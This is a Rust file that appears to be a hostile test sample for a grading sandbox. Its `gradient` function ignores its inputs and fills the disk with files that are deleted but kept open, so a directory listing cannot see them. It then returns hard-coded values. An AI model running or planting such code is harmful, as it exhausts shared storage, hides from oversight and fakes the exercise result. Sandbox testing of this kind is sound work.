//! Fills files that it has deleted already, where a look at its folder does not find them.
//!
//! exercise: gradient_descent/gradient_by_hand
//! verdict: too-much-output or failed
//! canary: space
//! unconfined: naive

use std::io::Write;

pub fn gradient(_: f64, _: f64, _: f64, _: f64) -> [f64; 2] {
    let part = vec![7; 1 << 20];
    let mut open = Vec::new();
    while let Ok(mut file) = std::fs::File::create("deleted") {
        let _ = std::fs::remove_file("deleted");
        for _ in 0..15 {
            let _ = file.write_all(&part);
        }
        open.push(file);
    }
    std::thread::sleep(std::time::Duration::from_millis(100));
    [0.5, 0.25]
}

pub fn gradient_on_paper() -> [f64; 2] {
    [0.5, 0.25]
}
